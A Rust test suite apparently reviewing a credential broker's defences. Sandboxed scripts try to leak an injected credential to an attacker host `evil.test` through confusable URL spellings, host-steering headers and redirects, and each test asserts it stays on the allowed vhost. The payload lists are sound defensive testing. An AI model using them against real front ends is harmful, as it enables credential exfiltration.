//! A seventeenth attack review, run as the process inside the sandbox: each test performs
//! one attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
//! kernel and a real upstream on the test namespace's `lo`, and asserts the secure
//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed: it
//! fails against the current agent.
//!
//! Angle: where the injected credential goes. The caller holds a handle for integration
//! `a` (bearer, host `api.allowed.test`, https on 443); it tries to make the broker send
//! the credential to another vhost, port or scheme: by spelling the URL so that the
//! policy check and the connection read different hosts, by naming another vhost in a
//! header a front proxy routes on, and by redirects.
//!
//! The world is the worst case for the broker: the attacker's `evil.test` lives on the
//! same address as `api.allowed.test`, behind the same certificate (one that names both,
//! as a shared front end's would), and is in the caller's own `allow_domains`; the same
//! server listens on 443 and 8443 (TLS) and on 80 (cleartext). So nothing but the
//! broker's own choice of host, port, scheme, SNI and `Host` header keeps the credential
//! on the integration's vhost. The server logs, for every request, the port it came to,
//! TLS or not, the SNI, the `Host` header, the request target and the names of every
//! header; the tests compare the `Authorization` header with the credential without
//! printing either.
//!
//! Everything lives on `lo` in the test's own network namespace; dnsmasq answers the
//! test names.

use std::fs;

use hb_tests::{
    PythonServer, TestEnv,
    sandboxed::nobody_broker_client,
    worlds::{REFLECTOR_ADDR, TrustedNames, json_lines},
};
use serde_json::Value;

const DNS_PORT: u16 = 5717;

/// The bearer credential of integration `a`: fake, made for this file.
const SECRET: &str = "ghp_Wq17Zr8Lm2Xc4Tn7Vb1Hs6Jd3Fg5Ky0PeRu";

/// The credential of integration `k` (the `X-Api-Key` header, same host): fake, made for
/// this file.
const KEY_SECRET: &str = "kk_T4nVb9Lq2Wm7Xc1Zr5Hs8Jd3Fg6Ky0PeAo";

/// The integration's vhost: the only `Host`, SNI and name the credential may travel to.
const ALLOWED: &str = "api.allowed.test";

/// The upstream: one `http.server` handler on `addr` ports 443 and 8443 (TLS, SNI
/// recorded) and 80 (cleartext). Every request is a JSON line in `log`: `port`, `tls`,
/// `sni`, `host`, `target` (the request target as sent), `method`, `auth` (the
/// `Authorization` header), `headers` (every header name, lower case). `/go?s=N&to=URL`
/// answers `N` with `Location: URL`; anything else `200 ok`.
const SERVER_PY: &str = r#"
import http.server, json, ssl, sys, threading, urllib.parse
addr, log, cert, key = sys.argv[1:5]
lock = threading.Lock()
SNI = {}
def sni_cb(sock, name, ctx):
    SNI[id(sock)] = name
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def setup(self):
        if self.server.tls:
            self.request.do_handshake()
        super().setup()
    def any(self):
        n = int(self.headers.get("content-length") or 0)
        if n:
            self.rfile.read(n)
        rec = {
            "port": self.server.server_address[1],
            "tls": self.server.tls,
            "sni": SNI.get(id(self.request)) if self.server.tls else None,
            "host": self.headers.get("host"),
            "target": self.path,
            "method": self.command,
            "auth": self.headers.get("authorization", ""),
            "headers": [k.lower() for k in self.headers.keys()],
        }
        with lock, open(log, "a") as f:
            f.write(json.dumps(rec) + "\n")
        u = urllib.parse.urlsplit(self.path)
        q = dict(urllib.parse.parse_qsl(u.query))
        if u.path == "/go" and "to" in q:
            self.send_response(int(q.get("s", "302")))
            self.send_header("Location", q["to"])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        out = b"ok\n"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_PUT = do_HEAD = do_DELETE = any
class S(http.server.ThreadingHTTPServer):
    daemon_threads = True
    def handle_error(self, request, client_address): pass
def serve(port, tls):
    srv = S((addr, port), H)
    srv.tls = tls
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        ctx.sni_callback = sni_cb
        srv.socket = ctx.wrap_socket(srv.socket, server_side=True, do_handshake_on_connect=False)
    srv.serve_forever()
for port, tls in ((8443, True), (80, False)):
    threading.Thread(target=serve, args=(port, tls), daemon=True).start()
serve(443, True)
"#;

/// Integration `a` (bearer, `api.allowed.test`, GET and POST) and `k` (header
/// `X-Api-Key`, same host, GET) bound to policy `web`,
/// whose own reach (`allow_domains`) holds `evil.test` and `api.allowed.test`: a
/// handle-less call, or a redirect hop that dropped the credential, may go to either.
struct World {
    env: TestEnv,
    log: std::path::PathBuf,
    _server: PythonServer,
    _names: TrustedNames,
}

impl World {
    fn new(name: &str) -> Self {
        let names = TrustedNames::start(
            &format!("review17-{name}"),
            DNS_PORT,
            "front",
            &[ALLOWED, "evil.test"],
        );
        let log = names.dir.join("arrivals.jsonl");
        fs::write(&log, "").expect("log");
        let argv = [
            REFLECTOR_ADDR.to_owned(),
            log.display().to_string(),
            names.leaf.cert.display().to_string(),
            names.leaf.key.display().to_string(),
        ]
        .map(|a| format!("{a:?}"))
        .join(", ");
        let server = PythonServer::start(&format!(
            "import sys\nsys.argv = ['x', {argv}]\n{SERVER_PY}"
        ));
        let body = format!(
            r#"
[[integration]]
name = "a"
auth = "bearer"
hosts = ["{ALLOWED}"]
methods = ["GET", "POST"]

[[integration]]
name = "k"
auth = {{ header = "X-Api-Key" }}
hosts = ["{ALLOWED}"]
methods = ["GET"]

[[policy]]
name = "web"
integrations = ["a", "k"]
allow_domains = ["evil.test", "{ALLOWED}"]
"#
        );
        let env = names.agent(
            name,
            "follow_redirects = true\n",
            &body,
            &[("a", "bot", SECRET), ("k", "bot", KEY_SECRET)],
        );
        Self {
            env,
            log,
            _server: server,
            _names: names,
        }
    }

    /// Runs `script` (with `hb`, `attempt(f)` and `h`, a handle for integration `a`) in a
    /// sandbox under policy `web` as user 65534; its JSON output.
    fn in_sandbox(&self, script: &str) -> Value {
        let script = format!("h = hb.handle(\"a\", \"bot\")[\"handle\"]\n{script}");
        nobody_broker_client(&self.env, "web", &script, &[])
    }

    fn arrivals(&self) -> Vec<Value> {
        json_lines(&self.log)
    }

    /// One credentialed GET of `https://ALLOWED{path}` per case, with the case's header
    /// `(name, value)` beside the handle; returns each name's status or error code.
    fn send_each_header(&self, path: &str, cases: &[(&str, String)]) -> Value {
        let cases: Vec<Value> = cases
            .iter()
            .map(|(n, v)| serde_json::json!([n, v]))
            .collect();
        self.in_sandbox(&format!(
            r#"
out = {{}}
for name, value in {cases}:
    r = attempt(lambda: hb.request("GET", "https://{ALLOWED}{path}", handle=h, headers={{name: value}}))
    out[name] = r.get("error") or r["status"]
print(json.dumps(out))
"#,
            cases = serde_json::to_string(&cases).expect("cases"),
        ))
    }
}

/// The header names, as the upstream logged them, of every arrival in `arrivals`.
fn header_names<'a>(arrivals: &'a [&'a Value]) -> impl Iterator<Item = String> + 'a {
    arrivals.iter().flat_map(|r| {
        r["headers"]
            .as_array()
            .expect("headers")
            .iter()
            .map(|n| n.as_str().unwrap_or_default().to_owned())
    })
}

/// Whether an arrival carried the credential.
fn credentialed(r: &Value) -> bool {
    r["auth"].as_str().is_some_and(|a| a.contains(SECRET))
}

/// Where a credentialed arrival went wrong, if it did: not TLS, not port 443, an SNI or
/// `Host` other than the integration's, a request target not in origin form.
fn misplaced(r: &Value) -> Option<String> {
    let ok = r["tls"] == true
        && r["port"] == 443
        && r["sni"] == ALLOWED
        && r["host"] == ALLOWED
        && r["target"].as_str().is_some_and(|t| t.starts_with('/'));
    (!ok).then(|| {
        format!(
            "port {} tls {} sni {} host {} target {}",
            r["port"], r["tls"], r["sni"], r["host"], r["target"]
        )
    })
}

/// Each of the sandbox's `got` (case → outcome) as `case=outcome`, for a figure line.
fn outcomes(got: &Value) -> String {
    got.as_object()
        .expect("cases")
        .iter()
        .map(|(k, v)| format!("{k}={}", v.as_str().map_or(v.to_string(), str::to_owned)))
        .collect::<Vec<_>>()
        .join(" ")
}

/// URLs that read one host to a lax parser and another to a strict one (userinfo,
/// backslashes, fragments and queries before the `@`, tabs and newlines WHATWG strips,
/// percent-encoded and Unicode dots, trailing dots and upper case, zero-padded and other
/// ports, IPv4-mapped and plain addresses of the same server, a path that reads as an
/// authority) take the credential to `api.allowed.test:443` over TLS, with that SNI and
/// `Host`, or nowhere.
#[test]
fn url_spellings_take_the_credential_only_to_the_integrations_vhost() {
    let w = World::new("review17-urls");
    let cases = [
        "https://api.allowed.test@evil.test/u1",
        "https://api.allowed.test:443@evil.test/u2",
        "https://evil.test\\@api.allowed.test/u3",
        "https://evil.test#@api.allowed.test/u4",
        "https://evil.test?@api.allowed.test/u5",
        "https://evil.test%2f@api.allowed.test/u6",
        "https://api.allowed.test\t.evil.test/u7",
        "https://api.allowed.te\nst/u8",
        "https://api.allowed.test%2eevil.test/u9",
        "https://api.allowed.test%E3%80%82evil.test/u10",
        "https://api\u{3002}allowed\u{3002}test/u11",
        "https://api\u{ff0e}allowed\u{ff0e}test/u12",
        "https://API.ALLOWED.TEST./u13",
        "https://api.allowed.test:8443/u14",
        "https://api.allowed.test:0443/u15",
        "http://api.allowed.test/u16",
        "http://api.allowed.test:443/u17",
        "https://api.allowed.test//evil.test/u18",
        "https://api.allowed.test/@evil.test/u19",
        "https://api.allowed.test.evil.test/u20",
        "https://[::ffff:203.0.113.10]/u21",
        "https://203.0.113.10/u22",
        "https://api.allowed.test%00.evil.test/u23",
        "https://api.allowed.test:443:8443/u24",
        "https:api.allowed.test/u25",
        "https:/api.allowed.test/u26",
        "https://evil.test:443/u27",
        "https://api.allowed.test\u{ad}/u28",
        "https://api.allowed.test:443\\@evil.test:8443/u29",
        "https://xn--api-allowed-test.evil.test/u30",
        "https://api.allowed.test:443/https://evil.test/u31",
        "https://3405803786/u32",
        "https://0xcb00710a/u33",
        "https://[::ffff:cb00:710a]/u34",
        "https://[fe80::1%25lo]/u35",
        "https://api.allowed.test:443/u36",
        "https://api.allowed.test:/u37",
        "https://api.allowed.test:65979/u38",
    ];
    let got = w.in_sandbox(&format!(
        r#"
out = {{}}
for i, url in enumerate({cases}):
    r = attempt(lambda: hb.request("GET", url, handle=h))
    out["u%d" % (i + 1)] = r.get("error") or r["status"]
print(json.dumps(out))
"#,
        cases = serde_json::to_string(&cases[..]).expect("cases"),
    ));
    let arrivals = w.arrivals();
    let with: Vec<&Value> = arrivals.iter().filter(|r| credentialed(r)).collect();
    let wrong: Vec<String> = with.iter().filter_map(|r| misplaced(r)).collect();
    println!(
        "figure: {} URLs; {} arrivals, {} with the credential, {} of them off the integration's vhost {wrong:?}; {}",
        cases.len(),
        arrivals.len(),
        with.len(),
        wrong.len(),
        outcomes(&got)
    );
    assert!(
        !with.is_empty(),
        "no spelling reached the integration: the test proves nothing"
    );
    assert!(
        wrong.is_empty(),
        "the credential went off the integration's vhost: {wrong:?}"
    );
}

// FINDING (fixed): `broker/outbound/headers.rs::PROXY_STEERING` listed `X-Forwarded-Host`,
// `X-Host`, `Forwarded`, `X-Original-URL` and kin but not `X-HTTP-Host-Override` (a
// host-override header in the standard list of host-header attacks) nor the path
// carriers `X-Original-URI`, `X-Forwarded-Uri`, `X-Forwarded-Path`, and the README
// promised "every other `X-Forwarded-*`": on c536ede all four arrived at the upstream
// beside the injected `Authorization` header, so a shared front end that honours one
// would hand the credential to the vhost (or path) the caller named. Now the list
// holds them and every `X-Forwarded-*` header is dropped by its prefix.
/// Headers a front proxy or framework may route by to another virtual host or path
/// (`X-Forwarded-Host` and its variants, `X-HTTP-Host-Override`, `Forwarded`,
/// `X-Original-URL`, `X-Forwarded-Uri`, …), in any case and with `_` for `-`, never
/// travel with the credential: on a shared front end, the attacker's vhost behind it
/// would get the request and its `Authorization` header.
#[test]
fn vhost_steering_headers_never_travel_with_the_credential() {
    let w = World::new("review17-steer");
    let evil = "evil.test";
    let cases: Vec<(&str, String)> = vec![
        ("Host", evil.into()),
        ("Host ", evil.into()),
        (":authority", evil.into()),
        ("X-Forwarded-Host", evil.into()),
        ("X_Forwarded_Host", evil.into()),
        ("x-forwarded-HOST", evil.into()),
        ("X-Host", evil.into()),
        ("X-Forwarded-Server", evil.into()),
        ("X-HTTP-Host-Override", evil.into()),
        ("X_HTTP_Host_Override", evil.into()),
        ("X-Original-Host", evil.into()),
        ("Forwarded", format!("host={evil};proto=https")),
        ("X-Original-URL", format!("https://{evil}/")),
        ("X-Rewrite-URL", format!("https://{evil}/")),
        ("X-Original-URI", "/admin".into()),
        ("X-Forwarded-Uri", "/admin".into()),
        ("X-Forwarded-Path", "/admin".into()),
        ("X-Forwarded-Prefix", "/admin".into()),
        ("X-Forwarded-Port", "8443".into()),
        ("X-Forwarded-Proto", "http".into()),
        ("X-Forwarded-Scheme", "http".into()),
        ("X_Forwarded_Ssl", "off".into()),
    ];
    let got = w.send_each_header("/steer", &cases);
    let steering: Vec<String> = cases
        .iter()
        .map(|(n, _)| n.trim().to_ascii_lowercase().replace('_', "-"))
        .filter(|n| n != "host" && n != ":authority")
        .collect();
    let arrivals = w.arrivals();
    let with: Vec<&Value> = arrivals.iter().filter(|r| credentialed(r)).collect();
    let mut carried: Vec<String> = with.iter().filter_map(|r| misplaced(r)).collect();
    carried.extend(
        header_names(&with)
            .map(|n| n.replace('_', "-"))
            .filter(|n| steering.contains(n)),
    );
    println!(
        "figure: {} headers tried; {} credentialed arrivals; steering headers that arrived with the credential: {carried:?}; {}",
        cases.len(),
        with.len(),
        outcomes(&got)
    );
    assert!(
        !with.is_empty(),
        "no request reached the integration: the test proves nothing"
    );
    assert!(
        carried.is_empty(),
        "a header that steers a front proxy to another vhost or path travelled with the credential: {carried:?}"
    );
}

/// The headers the broker keeps for itself — `Accept-Encoding` (it asks for `identity`;
/// what comes back in a coding it knows is decoded before the scrubber reads it, in any
/// other refused), the framing headers, the partial-content requests (a part of an echo
/// holds a piece of the credential shorter than any form the scrubber matches) — spelled
/// with `_` for `-`, as a CGI-style server (WSGI, PHP's `$_SERVER`) reads them back into
/// the same name: none arrives beside the credential. On c536ede every one did (the drop
/// lists compared names as written).
#[test]
fn headers_the_broker_keeps_for_itself_never_travel_in_underscore_spelling() {
    let w = World::new("review17-kept");
    let cases: Vec<(&str, String)> = [
        ("Accept_Encoding", "gzip"),
        ("accept_encoding", "br"),
        ("Transfer_Encoding", "chunked"),
        ("Content_Length", "5"),
        ("Keep_Alive", "timeout=5"),
        ("Proxy_Connection", "keep-alive"),
        ("If_Range", "\"x\""),
        ("Request_Range", "bytes=0-3"),
    ]
    .map(|(n, v)| (n, v.to_owned()))
    .into();
    let got = w.send_each_header("/kept", &cases);
    let kept: Vec<String> = cases
        .iter()
        .map(|(n, _)| n.to_ascii_lowercase().replace('_', "-"))
        .collect();
    let arrivals = w.arrivals();
    let with: Vec<&Value> = arrivals.iter().filter(|r| credentialed(r)).collect();
    let carried: Vec<String> = header_names(&with)
        .filter(|n| n.contains('_') && kept.contains(&n.to_ascii_lowercase().replace('_', "-")))
        .collect();
    println!(
        "figure: {} headers tried; {} credentialed arrivals; kept headers that arrived in underscore spelling: {carried:?}; {}",
        cases.len(),
        with.len(),
        outcomes(&got)
    );
    assert!(
        !with.is_empty(),
        "no request reached the integration: the test proves nothing"
    );
    assert!(
        carried.is_empty(),
        "a header the broker keeps for itself travelled with the credential: {carried:?}"
    );
}

/// Redirects from the integration's vhost (to the attacker's vhost on the same server and
/// certificate, another port, cleartext, a scheme-relative or userinfo `Location`, the
/// same server by address, a chain that leaves and comes back, a 307/308 that keeps a
/// POST's body) never take the credential off `api.allowed.test:443`: a hop that leaves
/// the origin goes on without it for good, or is refused.
#[test]
fn redirects_never_carry_the_credential_off_the_origin() {
    let w = World::new("review17-redirects");
    // (status, Location, method)
    let cases: &[(u16, &str, &str)] = &[
        (302, "https://evil.test/r1", "GET"),
        (307, "https://evil.test/r2", "GET"),
        (308, "https://evil.test/r3", "POST"),
        (307, "https://evil.test/r4", "POST"),
        (302, "//evil.test/r5", "GET"),
        (302, "https://api.allowed.test@evil.test/r6", "GET"),
        (302, "https://api.allowed.test:8443/r7", "GET"),
        (302, "http://api.allowed.test/r8", "GET"),
        (302, "http://api.allowed.test:443/r9", "GET"),
        (302, "https://API.ALLOWED.TEST.:443/r10", "GET"),
        (302, "https:evil.test/r11", "GET"),
        (302, "https:\\\\evil.test/r12", "GET"),
        (302, "/\\evil.test/r13", "GET"),
        (302, "https://[::ffff:203.0.113.10]/r14", "GET"),
        (302, "https://203.0.113.10/r15", "GET"),
        (302, "/go?s=302&to=https%3A%2F%2Fevil.test%2Fr16", "GET"),
        (
            302,
            "https://evil.test/go?s=302&to=https%3A%2F%2Fapi.allowed.test%2Fr17",
            "GET",
        ),
        (307, "https://api.allowed.test:443/r18", "POST"),
        (301, "https://evil.test/r19", "POST"),
        (303, "https://evil.test/r20", "POST"),
        (302, "https://evil.test%2f@api.allowed.test/r21", "GET"),
        (302, "https://evil.test#@api.allowed.test/r22", "GET"),
    ];
    let cases_json: Vec<Value> = cases
        .iter()
        .map(|(s, l, m)| serde_json::json!([s, l, m]))
        .collect();
    let got = w.in_sandbox(&format!(
        r#"
import urllib.parse
out = {{}}
for i, (s, loc, method) in enumerate({cases}):
    url = "https://{ALLOWED}/go?s=%d&to=%s" % (s, urllib.parse.quote(loc, safe=""))
    body = "x=1" if method == "POST" else None
    r = attempt(lambda: hb.request(method, url, handle=h, body=body))
    out["r%d" % (i + 1)] = r.get("error") or r["status"]
print(json.dumps(out))
"#,
        cases = serde_json::to_string(&cases_json).expect("cases"),
    ));
    let arrivals = w.arrivals();
    let with: Vec<&Value> = arrivals.iter().filter(|r| credentialed(r)).collect();
    let wrong: Vec<String> = with.iter().filter_map(|r| misplaced(r)).collect();
    let elsewhere = arrivals
        .iter()
        .filter(|r| r["host"] != ALLOWED || r["port"] != 443)
        .count();
    println!(
        "figure: {} redirects; {} arrivals ({elsewhere} off the origin, followed without the credential); {} with the credential, {} of them off the origin {wrong:?}; {}",
        cases.len(),
        arrivals.len(),
        with.len(),
        wrong.len(),
        outcomes(&got)
    );
    assert!(
        elsewhere > 0,
        "no redirect was followed off the origin: the test proves nothing"
    );
    assert!(
        wrong.is_empty(),
        "a redirect took the credential off the integration's origin: {wrong:?}"
    );
}

// FINDING (fixed): `broker/requests.rs::collision` compared header names exactly, so the
// integration's auth header spelled with `_` (`X_Api_Key`) was no auth collision: it went
// upstream beside the injected `X-Api-Key`, and a server that reads headers CGI-style
// (`HTTP_X_API_KEY`: PHP, WSGI, Rack behind a server that keeps such names) reads both as
// one, the caller's value maybe winning: a request with the caller's own credential,
// audited as the handle's. Method-override and proxy-steering headers were already read
// with `_` as `-`.
/// The integration's auth header spelled with underscores is the caller bringing its own
/// credential: an auth collision, refused before anything is sent.
#[test]
fn the_auth_header_spelled_with_underscores_is_an_auth_collision() {
    let w = World::new("review17-underscore");
    let got = w.in_sandbox(&format!(
        r#"
hk = hb.handle("k", "bot")["handle"]
r = attempt(lambda: hb.request("GET", "https://{ALLOWED}/mine", handle=hk, headers={{"X_Api_Key": "caller-chosen"}}))
print(json.dumps({{"outcome": r.get("error") or r["status"]}}))
"#
    ));
    let arrivals = w.arrivals();
    let both: Vec<&Value> = arrivals
        .iter()
        .filter(|r| {
            r["headers"]
                .as_array()
                .is_some_and(|h| h.iter().any(|n| n == "x_api_key"))
        })
        .collect();
    println!(
        "figure: X_Api_Key beside the handle: {}; {} arrivals carried the caller's own X_Api_Key",
        got["outcome"],
        both.len()
    );
    assert!(
        both.is_empty(),
        "the caller's own X_Api_Key reached the upstream beside the injected credential"
    );
    assert_eq!(got["outcome"], "auth_collision", "{got}");
}
